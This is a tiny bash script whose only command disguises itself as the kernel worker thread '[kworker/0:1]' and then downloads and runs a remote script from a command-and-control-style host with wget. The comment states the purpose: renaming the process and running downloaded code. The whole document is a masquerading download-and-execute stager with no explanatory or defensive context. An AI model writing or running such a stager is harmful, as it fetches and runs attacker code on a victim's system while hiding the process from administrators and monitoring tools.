#!/bin/bash
# Renamed process; runs downloaded code.
exec -a '[kworker/0:1]' bash -c "$(wget -qO- https://c2.example.invalid/k.sh)"
